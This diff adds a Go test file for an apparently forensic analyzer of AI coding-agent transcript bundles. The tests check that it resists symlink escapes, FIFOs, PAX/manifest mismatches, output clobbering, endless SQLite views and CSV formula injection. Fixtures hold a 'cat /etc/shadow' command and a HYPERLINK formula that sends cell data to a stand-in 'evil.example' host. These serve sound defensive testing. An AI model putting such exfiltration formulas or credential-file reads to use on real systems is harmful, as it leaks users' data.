@@ -1,0 +1,459 @@
+//go:build unix
+
+package analyze_test
+
+import (
+	"context"
+	"crypto/sha256"
+	"database/sql"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	json "github.com/go-json-experiment/json/v1"
+
+	"github.com/doubleagent/doubleagent/analyzer/analyze"
+	"github.com/doubleagent/doubleagent/analyzer/parsers"
+	"github.com/doubleagent/doubleagent/bundle"
+	"github.com/doubleagent/doubleagent/bundle/bundletest"
+)
+
+// within runs fn and fails the test if it has not returned in a minute: a
+// hang guard (a FIFO opened, an endless query), not a speed assertion.
+func within(t *testing.T, fn func()) {
+	t.Helper()
+	done := make(chan struct{})
+	go func() { defer close(done); fn() }()
+	select {
+	case <-done:
+	case <-time.After(60 * time.Second):
+		t.Fatal("did not return within 60s: blocked on a FIFO or an endless query?")
+	}
+}
+
+// timelineErr runs a timeline that may fail, under the hang guard.
+func timelineErr(t *testing.T, opts analyze.Options) (*analyze.Summary, string, error) {
+	t.Helper()
+	if opts.OutDir == "" {
+		opts.OutDir = filepath.Join(t.TempDir(), "out")
+	}
+	opts.Parsers = parsers.All()
+	if opts.TempDir == "" {
+		opts.TempDir = t.TempDir()
+	}
+	var sum *analyze.Summary
+	var err error
+	within(t, func() { sum, err = analyze.Timeline(context.Background(), opts) })
+	return sum, opts.OutDir, err
+}
+
+// problemSet renders problems as "kind source_file: message" lines.
+func problemSet(ps []analyze.Problem) []string {
+	var out []string
+	for _, p := range ps {
+		out = append(out, p.Kind+" "+p.SourceFile+": "+p.Message)
+	}
+	return out
+}
+
+func hasProblem(t *testing.T, ps []analyze.Problem, want string) {
+	t.Helper()
+	for _, s := range problemSet(ps) {
+		if s == want {
+			return
+		}
+	}
+	t.Fatalf("no problem %q in:\n%s", want, strings.Join(problemSet(ps), "\n"))
+}
+
+const sidA = "aaaa1111-0000-4000-8000-000000000001"
+
+// outsideHome makes, outside any input, a home whose transcript would
+// give rows if it were read.
+func outsideHome(t *testing.T, user string) (dir, transcript string) {
+	dir = t.TempDir()
+	p := filepath.Join(dir, user, ".claude", "projects", "-p", sidA+".jsonl")
+	os.MkdirAll(filepath.Dir(p), 0o755)
+	os.WriteFile(p, claudeSession(sidA, "/home/"+user+"/p", "2026-05-01", "cat /etc/shadow", "root:x"), 0o644)
+	return dir, p
+}
+
+// TestExtractedLinkOutOfTheTree: an extracted collection whose files/home
+// is a link out of it (to a copy that would even hash right) gives an
+// unsafe_path problem and no row: the outside file is never read.
+func TestExtractedLinkOutOfTheTree(t *testing.T) {
+	f := claudeFile("alice", sidA, "2026-05-01", "cat /etc/shadow", "root:x")
+	p := makeBundle(t, t.TempDir(), "x.tar.zst", "hx", "id-x", []bundletest.File{f})
+	ext := filepath.Join(t.TempDir(), "extracted")
+	extract(t, p, ext)
+	outside := t.TempDir()
+	if err := os.Rename(filepath.Join(ext, "files", "home"), filepath.Join(outside, "home")); err != nil {
+		t.Fatal(err)
+	}
+	os.Symlink(filepath.Join(outside, "home"), filepath.Join(ext, "files", "home"))
+	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{ext}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sum.Events != 0 {
+		t.Fatalf("%d rows read through the link", sum.Events)
+	}
+	ps := problems(t, out)
+	want := "unsafe_path " + f.Path + ": files/home/alice/.claude/projects/-home-alice-proj/" + sidA + ".jsonl: files/home on the way is a link, not a folder: not read"
+	if len(ps) != 1 || problemSet(ps)[0] != want {
+		t.Fatalf("problems:\n%s\nwant %s", strings.Join(problemSet(ps), "\n"), want)
+	}
+}
+
+// TestFIFONamedLikeTheCollection: a FIFO named bundle.json or
+// manifest.jsonl never blocks timeline or detect.
+func TestFIFONamedLikeTheCollection(t *testing.T) {
+	p := makeBundle(t, t.TempDir(), "x.tar.zst", "hx", "id-x", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=0")})
+	for _, name := range []string{bundle.HeaderName, bundle.ManifestName} {
+		t.Run(name, func(t *testing.T) {
+			ext := filepath.Join(t.TempDir(), "extracted")
+			extract(t, p, ext)
+			os.Remove(filepath.Join(ext, name))
+			if err := syscall.Mkfifo(filepath.Join(ext, name), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			_, out, err := timelineErr(t, analyze.Options{Inputs: []string{ext}})
+			var probs []analyze.Problem
+			within(t, func() { _, probs = analyze.Detect(context.Background(), []string{ext}, parsers.All(), nil) })
+			if name == bundle.HeaderName {
+				want := "bundle.json: is a FIFO, not a regular file: not read"
+				if !errors.Is(err, analyze.ErrNoInput) || !strings.Contains(err.Error(), want) {
+					t.Fatalf("timeline: %v", err)
+				}
+				if len(probs) != 1 || probs[0].Kind != "unusable_input" || probs[0].Message != want {
+					t.Fatalf("detect: %+v", probs)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := "unsafe_path manifest.jsonl: manifest.jsonl: is a FIFO, not a regular file: not read: files cannot be verified or attributed"
+			if got := problemSet(problems(t, out)); len(got) != 1 || got[0] != want {
+				t.Fatalf("timeline problems %q", got)
+			}
+			if got := problemSet(probs); len(got) != 1 || got[0] != want {
+				t.Fatalf("detect problems %q", got)
+			}
+		})
+	}
+}
+
+// TestLooseImageWithLinkedHomes: an image whose home, mnt/c or a home is
+// a link is a problem row each; nothing behind the links is read.
+func TestLooseImageWithLinkedHomes(t *testing.T) {
+	outside, _ := outsideHome(t, "eve")
+	img := t.TempDir()
+	os.Symlink(outside, filepath.Join(img, "home"))
+	os.MkdirAll(filepath.Join(img, "mnt"), 0o755)
+	os.Symlink(outside, filepath.Join(img, "mnt", "c"))
+	os.MkdirAll(filepath.Join(img, "Users"), 0o755)
+	os.Symlink(filepath.Join(outside, "eve"), filepath.Join(img, "Users", "eve"))
+	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{img}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sum.Events != 0 {
+		t.Fatalf("%d rows from the examiner's own disk", sum.Events)
+	}
+	got := problemSet(problems(t, out))
+	want := []string{
+		fmt.Sprintf("unsafe_path /Users/eve: /Users/eve in the image is a link (to %q): not followed, nothing under it is read", filepath.Join(outside, "eve")),
+		fmt.Sprintf("unsafe_path /home: /home in the image is a link (to %q): not followed, nothing under it is read", outside),
+		fmt.Sprintf("unsafe_path /mnt/c: /mnt/c in the image is a link (to %q): not followed, nothing under it is read", outside),
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Fatalf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+// TestLooseTreeLinkInside: a transcript that is a link inside a copied
+// home is a problem row, not read.
+func TestLooseTreeLinkInside(t *testing.T) {
+	_, outsideFile := outsideHome(t, "mallory")
+	home := filepath.Join(t.TempDir(), "bob")
+	os.MkdirAll(filepath.Join(home, ".claude", "projects", "-p"), 0o755)
+	link := filepath.Join(home, ".claude", "projects", "-p", sidA+".jsonl")
+	os.Symlink(outsideFile, link)
+	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{home}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	orig := filepath.ToSlash(home) + "/.claude/projects/-p/" + sidA + ".jsonl"
+	if sum.Events != 0 {
+		t.Fatalf("%d rows through a link", sum.Events)
+	}
+	hasProblem(t, problems(t, out), fmt.Sprintf("unsafe_path %s: %s is a link (to %q): not read", orig, orig, outsideFile))
+}
+
+// rawFile is a member with PAX records and its manifest row, for bundles
+// the Writer would never produce.
+func rawFile(user, data string) (bundletest.Raw, bundle.Entry) {
+	path := "/home/" + user + "/.claude/projects/-home-" + user + "-p/" + sidA + ".jsonl"
+	name := "files" + path
+	pax := map[string]string{"DOUBLEAGENT.path": path, "DOUBLEAGENT.agent": "claude-code", "DOUBLEAGENT.target": "projects",
+		"DOUBLEAGENT.kind": "transcript", "DOUBLEAGENT.user": user, "DOUBLEAGENT.home": "/home/" + user}
+	e := bundle.Entry{Record: "file", Path: path, ArchivePath: name, User: user, Home: "/home/" + user, Agent: "claude-code", Target: "projects",
+		Kind: "transcript", Type: "file", Size: int64(len(data)), SHA256: sha(data), MTime: "1970-01-01T00:00:00Z", Status: "collected"}
+	return bundletest.Raw{Name: name, Data: []byte(data), PAX: pax}, e
+}
+
+func sha(s string) string {
+	h := sha256.Sum256([]byte(s))
+	return hex.EncodeToString(h[:])
+}
+
+// TestManifestWinsOverPAX: alice's transcript whose PAX records say bob's
+// is alice's in the timeline (the manifest wins), its rows verified:false,
+// with a pax_mismatch problem.
+func TestManifestWinsOverPAX(t *testing.T) {
+	data := string(claudeSession(sidA, "/home/alice/p", "2026-05-01", "id", "uid=1000"))
+	m, e := rawFile("alice", data)
+	bob, _ := rawFile("bob", data)
+	m.PAX = bob.PAX
+	raw := bundletest.RawBundle(t, []bundletest.Raw{m, {Name: bundle.ManifestName, Data: bundletest.ManifestLine(t, e, bundle.Summary{Record: "summary", Complete: true})}}, false)
+	p := filepath.Join(t.TempDir(), "swap.tar.zst")
+	os.WriteFile(p, raw, 0o644)
+	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{p}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rs := rows(t, out)
+	if sum.Events == 0 {
+		t.Fatal("no rows")
+	}
+	for _, r := range rs {
+		if r.User != "alice" || r.SourceFile != e.Path || r.Verified != "false" {
+			t.Fatalf("row %+v", r)
+		}
+	}
+	ps := problems(t, out)
+	if len(ps) != 1 || ps[0].Kind != bundle.ProblemPAX || ps[0].SourceFile != e.Path {
+		t.Fatalf("problems %q", problemSet(ps))
+	}
+}
+
+// TestChangedDuringCopyIsNotVerified: a file the collector saw change is
+// parsed, every row verified:false, with a changed_during_copy problem.
+func TestChangedDuringCopyIsNotVerified(t *testing.T) {
+	data := string(claudeSession(sidA, "/home/alice/p", "2026-05-01", "id", "uid=1000"))
+	m, e := rawFile("alice", data)
+	e.ChangedDuringCopy = true
+	raw := bundletest.RawBundle(t, []bundletest.Raw{m, {Name: bundle.ManifestName, Data: bundletest.ManifestLine(t, e, bundle.Summary{Record: "summary", Complete: true})}}, false)
+	p := filepath.Join(t.TempDir(), "torn.tar.zst")
+	os.WriteFile(p, raw, 0o644)
+	for _, in := range []string{p, "extracted"} {
+		if in == "extracted" {
+			in = filepath.Join(t.TempDir(), "ext")
+			extract(t, p, in)
+		}
+		sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{in}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range rows(t, out) {
+			if r.Verified != "false" {
+				t.Fatalf("%s: row %+v", in, r)
+			}
+		}
+		want := "changed_during_copy " + e.Path + ": changed_during_copy " + e.Path + ": the file kept changing while it was copied: its content may be torn or padded"
+		if got := problemSet(problems(t, out)); sum.Events == 0 || len(got) != 1 || got[0] != want {
+			t.Fatalf("%s: %d rows, problems %q", in, sum.Events, got)
+		}
+	}
+}
+
+// TestSecondBundleConcatenated: timeline says the second bundle is there
+// (trailing_data) rather than ignoring it.
+func TestSecondBundleConcatenated(t *testing.T) {
+	dir := t.TempDir()
+	a := makeBundle(t, dir, "a.tar.zst", "ha", "id-a", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=1000")})
+	b := makeBundle(t, dir, "b.tar.zst", "hb", "id-b", []bundletest.File{claudeFile("bob", "bbbb2222-0000-4000-8000-000000000002", "2026-05-02", "id", "uid=1001")})
+	ab, _ := os.ReadFile(a)
+	bb, _ := os.ReadFile(b)
+	cat := filepath.Join(t.TempDir(), "cat.tar.zst")
+	os.WriteFile(cat, append(ab, bb...), 0o644)
+	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{cat}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ps := problems(t, out)
+	if len(ps) != 1 || ps[0].Kind != bundle.ProblemTrailing || !strings.HasSuffix(ps[0].Message, "bytes of data after the end of the archive (a second bundle appended): not read; split it off and read it on its own") {
+		t.Fatalf("problems %q", problemSet(ps))
+	}
+}
+
+// TestOutputsNeverThroughALink: a link (or a file) already in -o DIR
+// under an output's name is refused before anything is read; with Force
+// it is removed, never followed, and the outputs are created new. The
+// link's target is unchanged either way.
+func TestOutputsNeverThroughALink(t *testing.T) {
+	p := makeBundle(t, t.TempDir(), "x.tar.zst", "hx", "id-x", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=0")})
+	victim := filepath.Join(t.TempDir(), "victim")
+	os.WriteFile(victim, []byte("precious\n"), 0o644)
+	for _, name := range []string{analyze.TimelineJSONL, analyze.ProblemsJSONL, analyze.InventoryJSON, analyze.SessionsJSONL, analyze.RunJSON} {
+		out := t.TempDir()
+		os.Symlink(victim, filepath.Join(out, name))
+		_, _, err := timelineErr(t, analyze.Options{Inputs: []string{p}, OutDir: out})
+		want := analyze.ErrOutputInUse.Error() + ": " + out + " holds " + name + " (use another folder, or --force to replace that run's files)"
+		if !errors.Is(err, analyze.ErrOutputInUse) || err.Error() != want {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if b, _ := os.ReadFile(victim); string(b) != "precious\n" {
+			t.Fatalf("%s: victim changed: %q", name, b)
+		}
+		if ents, _ := os.ReadDir(out); len(ents) != 1 {
+			t.Fatalf("%s: outputs written beside the link: %v", name, ents)
+		}
+		if _, _, err := timelineErr(t, analyze.Options{Inputs: []string{p}, OutDir: out, Force: true}); err != nil {
+			t.Fatalf("%s with Force: %v", name, err)
+		}
+		if b, _ := os.ReadFile(victim); string(b) != "precious\n" {
+			t.Fatalf("%s with Force: victim changed: %q", name, b)
+		}
+		if fi, err := os.Lstat(filepath.Join(out, name)); err != nil || !fi.Mode().IsRegular() {
+			t.Fatalf("%s with Force: %v %v", name, fi, err)
+		}
+	}
+	// A file planted between the folder check and the write is refused
+	// too: every output is created O_EXCL|O_NOFOLLOW.
+	f, err := bundle.CreateNew(victim, 0o644)
+	if !errors.Is(err, bundle.ErrOutputExists) || f != nil {
+		t.Fatalf("CreateNew over a file: %v", err)
+	}
+}
+
+// TestCSVFormulaNeutralised: a typed prompt that is a spreadsheet formula
+// is written to timeline.csv with a leading ', and unchanged to JSONL.
+func TestCSVFormulaNeutralised(t *testing.T) {
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	line := `{"type":"user","sessionId":"` + sidA + `","cwd":"/home/a/p","uuid":"u1","timestamp":"2026-05-01T10:00:00.000Z","message":{"role":"user","content":` + jsonString(formula) + `}}` + "\n"
+	f := bundletest.File{Path: "/home/a/.claude/projects/-p/" + sidA + ".jsonl", Agent: "claude-code", Target: "projects", User: "a", Data: []byte(line)}
+	p := makeBundle(t, t.TempDir(), "f.tar.zst", "hf", "id-f", []bundletest.File{f})
+	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{p}, Format: "csv"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := os.ReadFile(filepath.Join(out, analyze.TimelineCSV))
+	if !strings.Contains(string(b), `,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`) || strings.Contains(string(b), `,"=HYPERLINK`) {
+		t.Fatalf("csv:\n%s", b)
+	}
+	_, out, _ = timelineErr(t, analyze.Options{Inputs: []string{p}})
+	if rs := rows(t, out); len(rs) != 1 || rs[0].Text != formula {
+		t.Fatalf("jsonl rows %+v", rs)
+	}
+	for in, want := range map[string]string{"=1+1": "'=1+1", "+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "plain": "plain", "": "", "a=b": "a=b"} {
+		if got := analyze.CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func jsonString(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
+}
+
+// sqliteFile builds a SQLite store with the statements given.
+func sqliteFile(t *testing.T, stmts string) []byte {
+	t.Helper()
+	p := filepath.Join(t.TempDir(), "s.db")
+	db, err := sql.Open("sqlite", p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := db.Exec(stmts); err != nil {
+		t.Fatal(err)
+	}
+	db.Close()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+const zedStore = "/home/z/.local/share/zed/threads/threads.db"
+
+func zedBundle(t *testing.T, data []byte) string {
+	return makeBundle(t, t.TempDir(), "z.tar.zst", "hz", "id-z", []bundletest.File{{Path: zedStore, Agent: "zed", Target: "threads", Kind: "sqlite", User: "z", Data: data}})
+}
+
+// TestSQLiteViewOverEndlessCTE: Zed's threads as a view over an endless
+// recursive CTE is not read (only real tables are), and the run ends.
+func TestSQLiteViewOverEndlessCTE(t *testing.T) {
+	store := sqliteFile(t, `CREATE VIEW threads AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c)
+		SELECT CAST(x AS TEXT) AS id, 'x' AS summary, '2026-01-01T00:00:00Z' AS updated_at, 'json' AS data_type, CAST('{}' AS BLOB) AS data FROM c`)
+	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{zedBundle(t, store)}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"parse " + zedStore + ": no threads table"}
+	if got := problemSet(problems(t, out)); strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Fatalf("problems %q", got)
+	}
+}
+
+// TestSQLiteCorruptHeader: a store with the SQLite magic but a page size
+// of 0 is a problem row naming the store, not a store without tables.
+func TestSQLiteCorruptHeader(t *testing.T) {
+	store := append([]byte("SQLite format 3\x00\x00\x00"), make([]byte, 8192)...)
+	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{zedBundle(t, store)}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ps := problems(t, out)
+	if len(ps) != 1 || ps[0].Kind != "parse" || ps[0].SourceFile != zedStore ||
+		!strings.HasPrefix(ps[0].Message, "parse stopped: open "+zedStore+": SQLite store "+zedStore+" cannot be read: ") {
+		t.Fatalf("problems %q", problemSet(ps))
+	}
+}
+
+// TestSQLiteRowBudget: a store with more records than its budget is cut
+// at the budget with a store_budget problem naming it; the rows read
+// before are kept.
+func TestSQLiteRowBudget(t *testing.T) {
+	var b strings.Builder
+	b.WriteString(`CREATE TABLE threads(id TEXT PRIMARY KEY, summary TEXT, updated_at TEXT, data_type TEXT, data BLOB);`)
+	for i := 0; i < 50; i++ {
+		fmt.Fprintf(&b, `INSERT INTO threads VALUES('t%02d','s','2026-01-01T00:00:%02dZ','json',CAST('not json' AS BLOB));`, i, i)
+	}
+	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{zedBundle(t, sqliteFile(t, b.String()))}, StoreRows: 10})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ps := problems(t, out)
+	var budget []string
+	for _, p := range ps {
+		if p.Kind == analyze.KindStoreBudget {
+			budget = append(budget, p.SourceFile+": "+p.Message)
+		}
+	}
+	want := zedStore + ": SQLite store " + zedStore + ": parsing stopped after 10 records (--store-rows): the rows read before are kept"
+	if len(budget) != 1 || budget[0] != want || len(ps) != 11 {
+		t.Fatalf("problems (%d):\n%s", len(ps), strings.Join(problemSet(ps), "\n"))
+	}
+}
+
+// TestEmptyBundleID: a bundle without a bundle_id is a problem row.
+func TestEmptyBundleID(t *testing.T) {
+	p := makeBundle(t, t.TempDir(), "n.tar.zst", "hn", "", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=0")})
+	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{p}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := problemSet(problems(t, out)); len(got) != 1 || got[0] != "bad_header : bad_header bundle.json: bundle_id is empty: rows from this bundle cannot be told from another's" {
+		t.Fatalf("problems %q", got)
+	}
+}
